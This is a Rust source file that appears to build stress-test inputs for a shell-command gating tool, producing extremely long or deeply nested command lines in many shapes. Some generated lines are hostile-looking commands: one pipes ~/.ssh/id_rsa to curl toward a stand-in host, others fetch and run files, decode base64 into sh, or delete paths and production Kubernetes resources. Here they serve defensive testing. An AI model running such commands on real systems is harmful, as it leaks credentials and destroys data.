//! Command lines that were made to take long, each in any size.

/// A command line as gate takes it.
pub(crate) enum Line {
    /// A text for a shell.
    Text(String),
    /// A program with its arguments.
    Words(Vec<String>),
}

/// One kind of command line, as long as wanted.
pub(crate) struct Shape {
    /// What it is made of.
    pub(crate) name: &'static str,
    /// The size at which it fills what is read, or what the kernel passes on.
    pub(crate) size: usize,
    make: Make,
}

enum Make {
    Text(fn(usize) -> String),
    Words(fn(usize) -> Vec<String>),
}

impl Shape {
    /// The line of a size.
    pub(crate) fn line(&self, size: usize) -> Line {
        match self.make {
            Make::Text(make) => Line::Text(make(size)),
            Make::Words(make) => Line::Words(make(size)),
        }
    }
}

/// What is tried; every size is that of the longest line that is looked at, or more.
pub(crate) const SHAPES: &[Shape] = &[
    text("a word of 1 MB", 1 << 20, |n| format!("echo {}", "a".repeat(n))),
    text("a word of 127 KB", 130_000, |n| format!("echo {}", "a".repeat(n))),
    text("nested $(", 10_000, |n| "$(".repeat(n) + &")".repeat(n)),
    text("nested \"$(", 10_000, |n| format!("echo {}", "\"$(".repeat(n))),
    text("nested (", 10_000, |n| "(".repeat(n)),
    text("nested ${", 10_000, |n| format!("echo {}", "${a:-".repeat(n))),
    text("nested $((", 10_000, |n| format!("echo $(({}", "(".repeat(n))),
    text("nested `", 10_000, |n| format!("echo {}", "`".repeat(n))),
    text("repeated $( ) to the depth that is read", 1_500, |n| {
        ("$(".repeat(40) + &")".repeat(40) + ";").repeat(n)
    }),
    text("words", 60_000, |n| format!("rm {}", "a ".repeat(n))),
    text("100,000 words", 100_000, |n| format!("rm {}", "a ".repeat(n))),
    text("words of nobody's program", 60_000, |n| format!("frobnicate {}", "a ".repeat(n))),
    text("options", 40_000, |n| format!("ls {}", "-l ".repeat(n))),
    text("clustered options", 120_000, |n| format!("ls -{}", "l".repeat(n))),
    text("distinct paths", 8_000, |n| format!("cat {}", numbered(n, |n| format!("src/f{n}.rs")))),
    text("distinct paths that are deleted", 8_000, |n| {
        format!("rm -rf {}", numbered(n, |n| format!("/srv/a{n}")))
    }),
    text("distinct paths that are copied", 8_000, |n| format!("cp {} d", numbered(n, |n| format!("a{n}")))),
    text("trees that are searched", 8_000, |n| format!("rg x {}", numbered(n, |n| format!("src/m{n}")))),
    text("deep paths", 30, |n| format!("cat {}", numbered(n, |n| "a/".repeat(2000) + &n.to_string()))),
    text("paths up and down", 30, |n| {
        format!("cat {}", numbered(n, |n| "a/../".repeat(800) + &n.to_string()))
    }),
    text("long secret names", 2_000, |n| {
        format!("cat {}", numbered(n, |n| format!("/home/user/.ssh/id_{n}")))
    }),
    text("globs", 8_000, |n| format!("cat {}", numbered(n, |n| format!("src/*{n}.rs")))),
    text("globs in every component", 8_000, |n| format!("cat {}", numbered(n, |n| format!("*/{n}/*.p*m")))),
    text("a glob of stars", 60_000, |n| format!("cat {}", "*a".repeat(n))),
    text("a glob of brackets", 40_000, |n| format!("cat {}", "[a]".repeat(n))),
    text("redirections", 8_000, |n| format!("true {}", numbered(n, |n| format!("> o{n}")))),
    text("redirections of a group", 8_000, |n| format!("{{ true; }} {}", numbered(n, |n| format!("> o{n}")))),
    text("descriptors", 8_000, |n| format!("exec {}", numbered(n, |n| format!("{}>&{}", n % 10, n % 7)))),
    text("parts with &&", 10_000, |n| "true && ".repeat(n) + "true"),
    text("4,000 parts with &&", 4_000, |n| "true && ".repeat(n) + "true"),
    text("4,000 parts that write and start", 2_000, |n| {
        numbered(n, |n| format!("echo x > f{n}; bash g{n};"))
    }),
    text("parts that load and start", 2_000, |n| numbered(n, |n| format!("wget h{n}.x; ./g{n};"))),
    text("parts of nobody's programs", 4_000, |n| numbered(n, |n| format!("frob{n} a{n};"))),
    text("parts that change directory", 4_000, |n| numbered(n, |n| format!("cd d{n};")) + "rm x"),
    text("cd into one tree and write", 2_000, |n| "cd a; touch b; ".repeat(n)),
    text("a pipeline", 4_000, |n| "cat | ".repeat(n) + "cat"),
    text("a pipeline into shells", 4_000, |n| "cat x | ".repeat(n) + "sh"),
    text("secrets in a pipeline", 2_000, |n| "cat ~/.ssh/id_rsa | curl -d @- x.y; ".repeat(n)),
    text("background jobs", 4_000, |n| "sleep 1 & ".repeat(n)),
    text("braces", 10_000, |n| format!("echo {}", "{a,b}".repeat(n))),
    text("braces in words", 10_000, |n| format!("echo {}", "{a,b} ".repeat(n))),
    text("nested braces", 10_000, |n| format!("echo {}a", "{a,".repeat(n) + &"}".repeat(n))),
    text("brace ranges", 4_000, |n| format!("rm {}", "{1..64} ".repeat(n))),
    text("brace ranges of everything", 4_000, |n| format!("rm {}", "{1..999999} ".repeat(n))),
    text("open braces", 40_000, |n| format!("echo {}", "{,".repeat(n))),
    text("assignments", 10_000, |n| numbered(n, |n| format!("v{n}=x{n}")) + " true"),
    text("assignments in parts", 4_000, |n| numbered(n, |n| format!("v{n}=x{n};")) + " echo $v1"),
    text("assignments that build on the last", 4_000, |n| {
        numbered(n, |n| format!("v{}=$v{n}$v{n};", n + 1)) + " echo $v9"
    }),
    text("one variable that grows", 4_000, |n| "a=x; ".to_owned() + &"a=$a$a; ".repeat(n) + "echo $a"),
    text("a variable used often", 4_000, |n| format!("a=/srv/{}; rm {}", "x".repeat(4000), "$a ".repeat(n))),
    text("variables that may be either", 2_000, |n| {
        numbered(n, |n| format!("if x; then v=a{n}; fi;")) + &"rm $v;".repeat(n)
    }),
    text("a variable of many values", 2_000, |n| {
        format!("for v in {}; do rm $v$v; done", numbered(n, |n| format!("a{n}")))
    }),
    text("loops in loops", 40, |n| {
        numbered(n, |n| format!("for v{n} in a b c d e f g h; do")) + " rm $v1$v2$v3; " + &"done;".repeat(n)
    }),
    text("loops side by side", 2_000, |n| numbered(n, |_| "for v in a b c; do rm $v; done;".to_owned())),
    text("functions", 2_000, |n| numbered(n, |n| format!("f{n}() {{ rm x; }}; f{n};"))),
    text("functions that call each other", 2_000, |n| {
        numbered(n, |n| format!("f{n}() {{ f{}; f{}; }};", n + 1, n + 1)) + " f0"
    }),
    text("functions with one name", 1_500, |n| "f() { rm x; }; f; ".repeat(n)),
    text("case branches", 4_000, |n| {
        format!("case x in {} esac", numbered(n, |n| format!("a{n}) rm b{n};;")))
    }),
    text("[[ of substitutions", 3_000, |n| {
        format!("[[ {} ]]", numbered(n, |n| format!("$(touch a{n}) && ")) + "a")
    }),
    text("arithmetic", 60_000, |n| format!("echo $(({}1))", "1+".repeat(n))),
    text("array elements", 8_000, |n| format!("a=({}); echo ${{a[@]}}", numbered(n, |n| format!("x{n}")))),
    text("a here-document", 120_000, |n| format!("cat <<E\n{}\nE\n", "a".repeat(n))),
    text("a here-document of 1 MB", 1 << 20, |n| format!("cat <<E\n{}\nE\n", "a\n".repeat(n / 2))),
    text("a here-document of expansions", 20_000, |n| format!("cat <<E\n{}\nE\n", "$a\n".repeat(n))),
    text("a here-document of substitutions", 4_000, |n| {
        format!("cat <<E\n{}\nE\n", "$(touch a)\n".repeat(n))
    }),
    text("here-documents", 4_000, |n| "cat <<E\nx\nE\n".repeat(n)),
    text("here-documents of one command", 4_000, |n| {
        format!("cat {}\n{}", "<<E ".repeat(n), "x\nE\n".repeat(n))
    }),
    text("a here-document for a shell", 4_000, |n| format!("sh <<'E'\n{}\nE\n", "rm a; ".repeat(n))),
    text("shells in a here-document", 2_000, |n| "sh <<'E'\nrm a\nE\n".repeat(n)),
    text("sed script", 120_000, |n| format!("sed '{}'", "s/a/b/;".repeat(n / 7))),
    text("sed script that writes", 120_000, |n| format!("sed '{}'", "w a\n".repeat(n / 4))),
    text("sed blocks", 120_000, |n| format!("sed '{}'", "/a/{".repeat(n / 4))),
    text("sed character classes", 120_000, |n| format!("sed 's/{}/b/'", "[[:a".repeat(n / 4))),
    text("awk script", 120_000, |n| format!("awk '{{ {} }}'", "print $1; ".repeat(n / 10))),
    text("awk script that writes", 120_000, |n| format!("awk '{{ {} }}'", "print > \"a\"; ".repeat(n / 14))),
    text("awk in parentheses", 120_000, |n| format!("awk 'BEGIN {{ x = {} }}'", "(".repeat(n))),
    text("awk of slashes", 120_000, |n| format!("awk '{}'", "/".repeat(n))),
    text("jq script", 120_000, |n| format!("jq '{}'", ".a | ".repeat(n / 5) + ".")),
    text("jq in brackets", 120_000, |n| format!("jq '{}'", "[".repeat(n))),
    text("jq of interpolations", 120_000, |n| format!("jq '{}'", "\"\\(".repeat(n / 3))),
    text("SQL statements", 120_000, |n| format!("psql -c '{}'", "SELECT 1; ".repeat(n / 10))),
    text("SQL in parentheses", 120_000, |n| format!("psql -c 'SELECT {}'", "(".repeat(n))),
    text("SQL comments", 120_000, |n| format!("psql -c '{}'", "/*".repeat(n / 2))),
    text("SQL dollar quotes", 120_000, |n| format!("psql -c '{}'", "$a$ $b$ ".repeat(n / 8))),
    text("SQL common table expressions", 120_000, |n| {
        format!("psql -c 'WITH {} x AS (SELECT 1) SELECT 1'", "a AS (SELECT 1), ".repeat(n / 17))
    }),
    text("sqlite statements", 120_000, |n| format!("sqlite3 a.db '{}'", "DELETE FROM a; ".repeat(n / 15))),
    text("perl script", 120_000, |n| format!("perl -e '{}'", "print 1; ".repeat(n / 9))),
    text("python script", 120_000, |n| format!("python3 -c '{}'", "print(1); ".repeat(n / 10))),
    text("nested sh -c", 100, |n| {
        (0..n).fold("rm a".to_owned(), |inner, _| {
            if inner.len() > 100_000 { inner } else { format!("sh -c {}", quoted(&inner)) }
        })
    }),
    text("sh -c with \"", 12, |n| {
        (0..n).fold("rm a".to_owned(), |inner, _| {
            format!("sh -c \"{}\"", inner.replace('\\', "\\\\").replace('"', "\\\""))
        })
    }),
    text("sh -c side by side", 4_000, |n| "sh -c 'rm a'; ".repeat(n)),
    text("sh -c of long texts in three levels", 100_000, |n| {
        format!("sh -c 'sh -c \"sh -c \\\"{}\\\"\"'", "rm a; ".repeat(n / 6))
    }),
    text("nested eval", 4_000, |n| "eval ".repeat(n) + "rm a"),
    text("eval side by side", 4_000, |n| "eval 'rm a'; ".repeat(n)),
    text("sudo", 20_000, |n| "sudo ".repeat(n) + "ls"),
    text("env", 20_000, |n| "env ".repeat(n) + "ls"),
    text("env with assignments", 10_000, |n| format!("env {} ls", numbered(n, |n| format!("v{n}=x")))),
    text("wrappers before many words", 16_000, |n| format!("{}rm {}", "env ".repeat(15), "a ".repeat(n))),
    text("sixteen wrappers side by side", 1_500, |n| ("env ".repeat(15) + "rm a b c; ").repeat(n)),
    text("xargs", 10_000, |n| "xargs ".repeat(n) + "rm"),
    text("xargs with many words", 16_000, |n| format!("xargs xargs xargs rm {}", "a ".repeat(n))),
    text("find -exec", 8_000, |n| format!("find . {}", "-exec rm {} ; ".replace(';', "\\;").repeat(n))),
    text("find -exec find -exec", 2_000, |n| format!("{} rm {{}} \\;", "find . -exec ".repeat(n))),
    text("names for xargs", 2_000, |n| "find . -name a | xargs wc; ".repeat(n)),
    text("names of many trees for xargs", 4_000, |n| format!("find {} | xargs wc", "src ".repeat(n))),
    text("names through a long pipeline", 4_000, |n| format!("find . | {}xargs wc", "sort | ".repeat(n))),
    text("far ends of copies", 8_000, |n| format!("scp -t {}", "a ".repeat(n))),
    words("far ends of rsync", 30_000, |n| {
        vec_of("rsync", n, |n| if n == 0 { "--server".to_owned() } else { format!("a{n}") })
    }),
    text("find of many trees", 8_000, |n| format!("find {} -delete", numbered(n, |n| format!("d{n}")))),
    text("find of tests", 8_000, |n| format!("find . {} -delete", "-name a -o ".repeat(n))),
    text("find in parentheses", 20_000, |n| format!("find . {}", "\\( ".repeat(n))),
    text("ssh in ssh", 4_000, |n| "ssh h ".repeat(n) + "rm a"),
    text("ssh with a text", 100_000, |n| format!("ssh h '{}'", "rm a; ".repeat(n / 6))),
    text("ssh side by side", 4_000, |n| numbered(n, |n| format!("ssh h{n} rm a;"))),
    text("docker with mounts", 4_000, |n| {
        format!("docker run {} x rm a", numbered(n, |n| format!("-v /a{n}:/b{n}")))
    }),
    text("docker exec of many", 4_000, |n| numbered(n, |n| format!("docker exec c{n} rm a;"))),
    text("kubectl names", 9_000, |n| format!("kubectl delete {}", numbered(n, |n| format!("prod{n}")))),
    text("git -c", 8_000, |n| format!("git {} status", numbered(n, |n| format!("-c a.b{n}=c")))),
    text("git with paths", 8_000, |n| format!("git add {}", numbered(n, |n| format!("f{n}")))),
    text("hosts", 6_000, |n| format!("curl {}", numbered(n, |n| format!("https://h{n}.example/")))),
    text("curl that stores", 4_000, |n| format!("curl {}", numbered(n, |n| format!("-o f{n} h{n}.x")))),
    text("tee", 8_000, |n| format!("tee {}", numbered(n, |n| format!("f{n}")))),
    text("tar members", 8_000, |n| format!("tar -cf a.tar {}", numbered(n, |n| format!("f{n}")))),
    text("tar directories", 4_000, |n| format!("tar -xf a.tar {}", numbered(n, |n| format!("-C d{n}")))),
    text("chmod", 8_000, |n| format!("chmod 777 {}", numbered(n, |n| format!("f{n}")))),
    text("quotes that change at every byte", 30_000, |n| format!("echo {}", "a'b'".repeat(n))),
    text("backslashes", 60_000, |n| format!("echo {}", "\\a".repeat(n))),
    text("$'…' escapes", 30_000, |n| format!("echo $'{}'", "\\x41".repeat(n))),
    text("line continuations", 60_000, |n| format!("echo {}", "\\\n".repeat(n))),
    text("comments", 60_000, |n| "#\n".repeat(n)),
    text("look-alike letters", 60_000, |n| format!("echo {}", "\u{430}".repeat(n))),
    text("decoded by base64", 120_000, |n| format!("echo {} | base64 -d | sh", "YQ==".repeat(n / 4))),
    text("process substitutions", 3_000, |n| format!("cat {}", "<(rm a) ".repeat(n))),
    text("substitutions as arguments", 4_000, |n| format!("echo {}", "$(rm a) ".repeat(n))),
    text("substitutions in one word", 4_000, |n| format!("rm {}", "$(cat a)".repeat(n))),
    text("expansions in one word", 20_000, |n| format!("rm {}", "$a".repeat(n))),
    text("expansions as words", 20_000, |n| format!("rm {}", "$a ".repeat(n))),
    text("a name that is expanded", 20_000, |n| "$a b; ".repeat(n)),
    text("tests", 4_000, |n| "test -f a && rm a; ".repeat(n)),
    text("traps", 4_000, |n| "trap 'rm a' EXIT; ".repeat(n)),
    text("aliases", 4_000, |n| numbered(n, |n| format!("alias a{n}='rm b';"))),
    text("exports", 4_000, |n| numbered(n, |n| format!("export PATH=/a{n}:$PATH;")) + "ls"),
    words("argument vector of 2 MB", 500_000, |n| vec_of("rm", n, |_| "a".to_owned())),
    words("distinct paths as arguments", 200_000, |n| vec_of("cat", n, |n| format!("f{n}"))),
    words("long arguments", 15, |n| vec_of("cat", n, |n| "a/".repeat(65_000) + &n.to_string())),
    words("long names as arguments", 500, |n| vec_of("cat", n, |n| "a/".repeat(2_000) + &n.to_string())),
    words("globs as arguments", 200_000, |n| vec_of("cat", n, |n| format!("*{n}*"))),
    words("options as arguments", 500_000, |n| vec_of("ls", n, |_| "-l".to_owned())),
    words("sed scripts as arguments", 15, |n| {
        vec_of("sed", 2 * n, |n| if n % 2 == 0 { "-e".to_owned() } else { "s/a/b/;".repeat(18_000) })
    }),
    words("awk script as argument", 130_000, |n| {
        vec_of("awk", 1, |_| format!("{{{}}}", "x=1;".repeat(n / 4)))
    }),
    words("sh -c as arguments", 130_000, |n| {
        vec_of("sh", 2, |at| if at == 0 { "-c".to_owned() } else { "rm a;".repeat(n / 5) })
    }),
    words("find -exec as arguments", 100_000, |n| {
        vec_of("find", n, |n| ["-exec", "rm", "{}", ";"].get(n % 4).copied().unwrap_or_default().to_owned())
    }),
    words("env as arguments", 300_000, |n| vec_of("env", n, |_| "env".to_owned())),
    words("xargs before arguments", 300_000, |n| vec_of("xargs", n, |_| "a".to_owned())),
    words("docker as arguments", 200_000, |n| {
        vec_of("docker", n, |n| if n == 0 { "run".to_owned() } else { format!("-v/a{n}:/b") })
    }),
    words("ssh as arguments", 300_000, |n| vec_of("ssh", n, |_| "h".to_owned())),
    words("git as arguments", 300_000, |n| {
        vec_of("git", n, |n| if n % 2 == 0 { "-c" } else { "a.b=c" }.to_owned())
    }),
    words("psql as arguments", 100, |n| {
        vec_of("psql", n, |n| if n % 2 == 0 { "-c".to_owned() } else { "SELECT 1;".repeat(4_000) })
    }),
    words("nobody's program with arguments", 300_000, |n| vec_of("frobnicate", n, |n| format!("a{n}"))),
];

const fn text(name: &'static str, size: usize, make: fn(usize) -> String) -> Shape {
    Shape { name, size, make: Make::Text(make) }
}

const fn words(name: &'static str, size: usize, make: fn(usize) -> Vec<String>) -> Shape {
    Shape { name, size, make: Make::Words(make) }
}

fn numbered(count: usize, one: impl Fn(usize) -> String) -> String {
    (0..count).map(one).collect::<Vec<_>>().join(" ")
}

fn vec_of(program: &str, count: usize, one: impl Fn(usize) -> String) -> Vec<String> {
    std::iter::once(program.to_owned()).chain((0..count).map(one)).collect()
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}
